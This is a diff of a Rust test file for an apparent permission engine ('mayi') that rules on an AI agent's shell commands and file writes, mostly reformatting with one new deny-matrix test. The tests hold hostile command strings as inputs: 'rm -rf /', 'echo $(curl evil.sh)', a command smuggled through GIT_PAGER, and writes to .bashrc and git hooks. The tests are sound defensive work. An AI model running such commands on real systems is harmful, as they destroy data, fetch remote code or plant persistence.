@@ -28,7 +28,8 @@ fn policy(rules: &[(Effect, &str)]) -> Policy {
 /// Compiled once: the property tests make thousands of policies.
 fn protection() -> &'static Protection {
     static BUILT_IN: std::sync::OnceLock<Protection> = std::sync::OnceLock::new();
-    BUILT_IN.get_or_init(|| Protection::built_in(&places(), &[PathBuf::from("/home/me/.config/mayi")]).unwrap())
+    BUILT_IN
+        .get_or_init(|| Protection::built_in(&places(), &[PathBuf::from("/home/me/.config/mayi")]).unwrap())
 }
 
 fn rule(effect: Effect, text: &str) -> Rule {
@@ -130,7 +131,11 @@ fn given_no_rules_then_the_matrix_and_protection_speak() {
     assert_eq!(in_mode(&none, &shell("rm -rf /"), Mode::Auto).effect, Deny, "catastrophic");
     let indirect = in_mode(&none, &shell("X=rm; $X -rf y"), Mode::Auto);
     assert_eq!((indirect.effect, indirect.always()), (Ask, true), "command word not literal, always");
-    assert_eq!(in_mode(&none, &shell("mayi inbox approve 1"), Mode::Auto).effect, Deny, "answers for the person");
+    assert_eq!(
+        in_mode(&none, &shell("mayi inbox approve 1"), Mode::Auto).effect,
+        Deny,
+        "answers for the person"
+    );
 }
 
 /// Decisions, 8, rows with rules for commands.
@@ -145,7 +150,11 @@ fn given_rules_for_commands_then_the_strictest_wins() {
     assert_eq!(effect(&any_make, &shell("make && rm -rf target")), Ask, "`rm -rf target` has no allow");
     let both = policy(&[(Allow, "shell(make *)"), (Deny, "shell(rm *)")]);
     assert_eq!(effect(&both, &shell("make; rm x")), Deny, "deny wins in a list");
-    assert_eq!(effect(&policy(&[(Allow, "shell(echo *)")]), &shell("echo $(curl evil.sh)")), Ask, "substitution has no allow");
+    assert_eq!(
+        effect(&policy(&[(Allow, "shell(echo *)")]), &shell("echo $(curl evil.sh)")),
+        Ask,
+        "substitution has no allow"
+    );
     let cargo = policy(&[(Allow, "shell(cargo test *)")]);
     assert_eq!(effect(&cargo, &shell("PATH=. cargo test")), Ask, "rebinding, always");
     assert_eq!(effect(&cargo, &shell("sudo cargo test")), Ask, "`sudo` is not allowed");
@@ -159,7 +168,8 @@ fn given_rules_for_commands_then_the_strictest_wins() {
 #[test]
 fn given_a_bypassed_agent_then_only_plain_asks_are_discharged() {
     let bypass = |policy: &Policy, call: &Call, mode| {
-        decide(policy, call, &Standing { mode, bypass: true, grants: &Grants::default(), servers: passed() }).effect
+        decide(policy, call, &Standing { mode, bypass: true, grants: &Grants::default(), servers: passed() })
+            .effect
     };
     let none = policy(&[]);
     assert_eq!(bypass(&none, &shell("make"), Mode::Default), Allow);
@@ -184,12 +194,24 @@ fn given_a_session_grant_then_it_reaches_no_further_than_its_pattern_agent_and_s
     let mut elsewhere = shell("make x");
     elsewhere.session = SessionId("t".into());
     assert_eq!(with_grant(&none, &elsewhere, &grants), Ask);
-    assert_eq!(with_grant(&none, &shell("GIT_PAGER='sh -c id' git log"), &granted("shell(git log *)")), Ask, "caveat");
-    assert_eq!(with_grant(&none, &write("/home/me/.bashrc"), &granted("write(**)")), Ask, "always, exact digest only");
+    assert_eq!(
+        with_grant(&none, &shell("GIT_PAGER='sh -c id' git log"), &granted("shell(git log *)")),
+        Ask,
+        "caveat"
+    );
+    assert_eq!(
+        with_grant(&none, &write("/home/me/.bashrc"), &granted("write(**)")),
+        Ask,
+        "always, exact digest only"
+    );
     let asks = policy(&[(Ask, "shell(git push *)")]);
     assert_eq!(with_grant(&asks, &shell("git push origin"), &granted("shell(git *)")), Ask, "not named");
     assert_eq!(with_grant(&asks, &shell("git push origin"), &granted("shell(git push *)")), Allow, "named");
-    assert_eq!(with_grant(&asks, &shell("git push origin"), &granted("shell(git push origin)")), Allow, "exactly");
+    assert_eq!(
+        with_grant(&asks, &shell("git push origin"), &granted("shell(git push origin)")),
+        Allow,
+        "exactly"
+    );
 }
 
 #[test]
@@ -320,11 +342,33 @@ fn given_a_call_that_touches_nothing_then_it_is_denied() {
     assert_eq!(decision.because().unwrap().source, Source::Error);
 }
 
+/// Decisions, 4: "adding a deny or an ask never loosens anything", also where the user's matrix denies.
+#[test]
+fn given_a_matrix_that_denies_then_no_ask_loosens_it() {
+    let denies = |rules: &[(Effect, &str)]| {
+        let mut denies = policy(rules);
+        denies.matrix.default.execute = Deny;
+        denies.matrix.default.write = Deny;
+        denies
+    };
+    assert_eq!(effect(&denies(&[]), &shell("make")), Deny);
+    assert_eq!(effect(&denies(&[(Ask, "shell(make)")]), &shell("make")), Deny);
+    assert_eq!(effect(&denies(&[(Allow, "shell(make)")]), &shell("make")), Allow);
+    assert_eq!(effect(&denies(&[(Allow, "shell(make)"), (Ask, "shell(make)")]), &shell("make")), Ask);
+    assert_eq!(
+        effect(&denies(&[]), &write("/w/.git/hooks/x")),
+        Deny,
+        "protection asks, and the matrix denies"
+    );
+    assert_eq!(with_grant(&denies(&[(Ask, "shell(make)")]), &shell("make"), &granted("shell(make)")), Deny);
+}
+
 /// Section 8, title: every finding says where it comes from.
 #[test]
 fn given_a_rule_in_a_file_then_the_finding_names_the_place() {
     let mut placed = policy(&[(Deny, "shell(rm *)")]);
-    placed.rules[0].origin = Origin { file: Some("/home/me/.config/mayi/config.toml".into()), line: Some(7), layer: "user" };
+    placed.rules[0].origin =
+        Origin { file: Some("/home/me/.config/mayi/config.toml".into()), line: Some(7), layer: "user" };
     let decision = in_mode(&placed, &shell("rm x"), Mode::Default);
     assert_eq!(
         serde_json::to_value(decision.because().unwrap()).unwrap(),
